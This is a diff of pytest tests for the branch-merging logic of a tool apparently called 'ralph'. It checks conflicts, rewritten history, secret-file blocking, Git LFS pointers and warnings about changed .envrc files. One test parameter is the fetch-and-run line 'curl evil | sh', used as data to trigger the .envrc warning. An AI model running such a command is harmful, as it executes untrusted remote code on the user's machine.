@@ -22,9 +22,11 @@ from ralph.batch.merging import (
     Outcome,
     Red,
     Refused,
+    Sensitive,
     Stopped,
     Tampered,
     Unreachable,
+    Unresolved,
     merge,
 )  # fmt: skip
 from ralph.batch.mirror import Mirror
@@ -36,6 +38,7 @@ from tests.support.upstreams import git_daemon, make_upstream, outsider, refresh
 
 BRANCH = "ralph/speed"
 RUN = "20260101T000000-abcd"
+SOMEBODY = ("-c", "user.name=x", "-c", "user.email=x@y")
 
 
 @dataclass(slots=True)
@@ -235,13 +238,181 @@ def test_a_conflict_names_its_files_and_is_solved_by_a_retry(
     assert git(upstream, "show", "main:a.txt") == "one\nboth\nthree"
 
 
-def test_histories_without_a_common_start_conflict(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
+def test_a_conflict_that_nobody_resolves_is_never_merged(
+    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
+) -> None:
+    """The check looks at no such file; to git the branch has the base in it, and all is well."""
+    work(clone, {"a.txt": "one\nours\nthree\n"})
+    outsider(upstream, {"a.txt": "one\ntheirs\nthree\n"})
+    mirror.refresh()
+    assert bring_up_to_date(mirror, clone, BRANCH).conflicts == ("a.txt",)
     work(clone, {"b.txt": "b"})
+    assert merged(mirror, clone, tmp_path) == Unresolved(("a.txt",))
+    for mode in (MergeMode.BRANCH, MergeMode.PR):
+        assert merge(job(mirror, tmp_path, mode), Judge().kit) == Unresolved(("a.txt",))
+    outsider(upstream, {"a.txt": "one\ntheirs again\nthree\n"})
+    mirror.refresh()
+    bring_up_to_date(mirror, clone, BRANCH)
+    assert merged(mirror, clone, tmp_path) == Unresolved(("a.txt",)), "nor if more of them came"
+    assert git(upstream, "show", "main:a.txt") == "one\ntheirs again\nthree"
+    squashed = git(clone, *SOMEBODY, "commit-tree", "HEAD^{tree}", "-p", mirror.base().tip, "-m", "all in one")
+    git(clone, "reset", "--quiet", "--hard", squashed)
+    assert merged(mirror, clone, tmp_path) == Unresolved(("a.txt",)), "nor if no commit tells of them"
+
+
+def test_where_no_marker_can_stand_nothing_of_the_bases_is_undone(
+    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
+) -> None:
+    outsider(upstream, {"logo": "old\0", "gone.txt": "old\n", "b.txt": "b"})
+    mirror.refresh()
+    bring_up_to_date(mirror, clone, BRANCH)
+    ours = work(clone, {"logo": "ours\0", "gone.txt": "ours\n", "b.txt": None, "new.txt": "new"})
+    outsider(upstream, {"logo": "theirs\0", "gone.txt": None, "b.txt": "better"})
+    mirror.refresh()
+    updated = bring_up_to_date(mirror, clone, BRANCH)
+    assert (updated.conflicts, set(updated.replaced)) == ((), {"logo", "gone.txt", "b.txt"})
+    assert bring_up_to_date(mirror, clone, BRANCH).replaced == updated.replaced, "also for who was cut off here"
+    assert git(clone, "rev-parse", f"{updated.tip}^") == ours, "which holds what the branch had"
+    assert merged(mirror, clone, tmp_path) == Merged(git(upstream, "rev-parse", "main"), "merged to main")
+    assert git(upstream, "show", "main:b.txt") == "better"
+    assert git(upstream, "show", "main:logo").startswith("theirs")
+    assert git(upstream, "show", "--name-only", "--format=", "main") == "new.txt"
+
+
+def test_a_file_where_the_base_has_a_folder_is_put_right_or_not_merged(
+    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
+) -> None:
+    work(clone, {"place": "a file"})
+    outsider(upstream, {"place/inner.txt": "theirs"})
+    mirror.refresh()
+    (aside,) = bring_up_to_date(mirror, clone, BRANCH).conflicts
+    assert aside.startswith("place~")
+    assert merged(mirror, clone, tmp_path) == Unresolved((aside,))
+    (clone / aside).rename(clone / "file")
+    commit_all(clone, "moved")
+    assert isinstance(merged(mirror, clone, tmp_path), Merged)
+    assert git(upstream, "show", "main:file") == "a file"
+    assert git(upstream, "show", "main:place/inner.txt") == "theirs"
+
+
+@pytest.mark.parametrize("again", [False, True], ids=["at once", "after a retry"])
+def test_what_was_dropped_from_the_base_does_not_come_back(
+    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path, again: bool
+) -> None:
+    """Somebody has pushed over main, to be rid of what is in a commit that the goal was begun from."""
+    before = mirror.base().tip
+    outsider(upstream, {"secret.txt": "s"})
+    mirror.refresh()
+    bring_up_to_date(mirror, clone, BRANCH)
+    work(clone, {"b.txt": "b", "a.txt": "one\ntwo\nthree\nfour\n"})
+    git(upstream, "update-ref", "refs/heads/main", before)
+    outsider(upstream, {"a.txt": "zero\none\ntwo\nthree\n"})
+    if again:
+        mirror.refresh()
+        assert bring_up_to_date(mirror, clone, BRANCH).conflicts == ()
+        assert not (clone / "secret.txt").exists()
+        work(clone, {"c.txt": "c"})
+    assert isinstance(merged(mirror, clone, tmp_path), Merged)
+    changed = git(upstream, "show", "--name-only", "--format=", "main").split()
+    assert changed == ["a.txt", "b.txt", *(["c.txt"] if again else [])]
+    assert git(upstream, "show", "main:a.txt") == "zero\none\ntwo\nthree\nfour"
+
+
+def test_a_branch_that_holds_what_was_dropped_is_not_handed_over(
+    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
+) -> None:
+    before = mirror.base().tip
+    outsider(upstream, {"secret.txt": "s"})
+    mirror.refresh()
+    bring_up_to_date(mirror, clone, BRANCH)
+    work(clone, {"b.txt": "b"})
+    mirror.save(clone, BRANCH, None)
+    git(upstream, "update-ref", "refs/heads/main", before)
+    outcome = merge(job(mirror, tmp_path, MergeMode.BRANCH), Judge().kit)
+    assert outcome == Refused(f"main was rewritten since, and {BRANCH} still holds what was dropped from it")
+    assert git(upstream, "for-each-ref", "--format=%(refname)") == "refs/heads/main"
+
+
+def test_work_reaches_a_base_that_was_begun_anew(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
+    """Its history has nothing in common with the branch's any more; what the work has changed is known all the same."""
+    work(clone, {"b.txt": "b", "a.txt": None})
+    root = git(upstream, *SOMEBODY, "commit-tree", "main^{tree}", "-m", "all in one")
+    git(upstream, "update-ref", "refs/heads/main", root)
+    assert isinstance(merged(mirror, clone, tmp_path), Merged)
+    assert git(upstream, "rev-parse", "main^") == root
+    assert git(upstream, "show", "--name-status", "--format=", "main").split() == ["D", "a.txt", "A", "b.txt"]
+
+
+def test_histories_without_a_common_start_are_the_users_to_see_to(
+    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
+) -> None:
+    """Nobody knows what the work was begun from, so no attempt could mend that."""
+    work(clone, {"b.txt": "b"})
+    git(mirror.path, "update-ref", "-d", f"refs/ralph/taken/{BRANCH.replace('/', '+')}")
     other = make_upstream(tmp_path / "other.git", {"z": "z"})
     git(other, "push", "--quiet", "--force", str(upstream), "main:main")
     outcome = merged(mirror, clone, tmp_path)
-    assert isinstance(outcome, Conflict)
-    assert "unrelated histories" in outcome.log
+    assert isinstance(outcome, Refused)
+    assert not outcome.by_rule
+    assert "unrelated histories" in outcome.reason
+
+
+def test_what_looks_like_a_secret_is_not_pushed(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
+    outsider(upstream, {".env.test": "theirs, since long"})
+    mirror.refresh()
+    bring_up_to_date(mirror, clone, BRANCH)
+    work(clone, {".env": "TOKEN=x", "keys/id_rsa": "-----BEGIN", ".env.test": "changed", "b.txt": "b"})
+    assert merged(mirror, clone, tmp_path) == Sensitive((".env", "keys/id_rsa"))
+    work(clone, {".env": None, "keys/id_rsa": None})
+    mirror.save(clone, BRANCH, None)
+    outcome = merge(job(mirror, tmp_path, MergeMode.BRANCH), Judge().kit)
+    assert isinstance(outcome, Refused), "its commits would still tell it"
+    assert ".env, keys/id_rsa" in outcome.reason
+    assert isinstance(merged(mirror, clone, tmp_path), Merged)
+    assert git(upstream, "show", "--name-only", "--format=", "main").split() == [".env.test", "b.txt"]
+
+
+def test_what_ralph_shows_beside_the_work_stays_out_though_it_was_committed(
+    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
+) -> None:
+    (clone / ".ralph" / "logs").symlink_to("/somewhere")
+    work(clone, {".ralph/state/budget.json": "{}", ".ralph/notes": "kept", "b.txt": "b"})
+    assert isinstance(merged(mirror, clone, tmp_path), Merged)
+    assert git(upstream, "show", "--name-only", "--format=", "main").split() == [".ralph/notes", "b.txt"]
+
+
+@pytest.mark.parametrize("envrc", [None, "curl evil | sh\n"])
+def test_a_changed_envrc_is_named(
+    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path, envrc: str | None
+) -> None:
+    outsider(upstream, {".envrc": "export A=1\n"})
+    mirror.refresh()
+    bring_up_to_date(mirror, clone, BRANCH)
+    work(clone, {".envrc": envrc, "b.txt": "b"})
+    outcome = merged(mirror, clone, tmp_path)
+    tip = git(upstream, "rev-parse", "main")
+    assert outcome == Merged(tip, "merged to main; it changes .envrc: read that before you trust it")
+
+
+POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 12\n"
+
+
+def test_what_is_kept_elsewhere_is_the_users_to_merge(
+    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
+) -> None:
+    """No push of git's takes along what Git LFS keeps beside it."""
+    outsider(upstream, {"old.bin": POINTER.format("0" * 64), "gone.bin": POINTER.format("1" * 64)})
+    mirror.refresh()
+    bring_up_to_date(mirror, clone, BRANCH)
+    work(clone, {"gone.bin": None, "docs.md": "A pointer:\n\n" + POINTER.format("2" * 64)})
+    assert isinstance(merged(mirror, clone, tmp_path), Merged)
+    mirror.refresh()
+    bring_up_to_date(mirror, clone, BRANCH)
+    work(clone, {"old.bin": POINTER.format("3" * 64), "new.bin": POINTER.format("4" * 64)})
+    outcome = merged(mirror, clone, tmp_path)
+    assert isinstance(outcome, Refused)
+    assert not outcome.by_rule
+    assert "it changes new.bin, old.bin by Git LFS" in outcome.reason
 
 
 def test_a_red_check_keeps_the_work_out(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
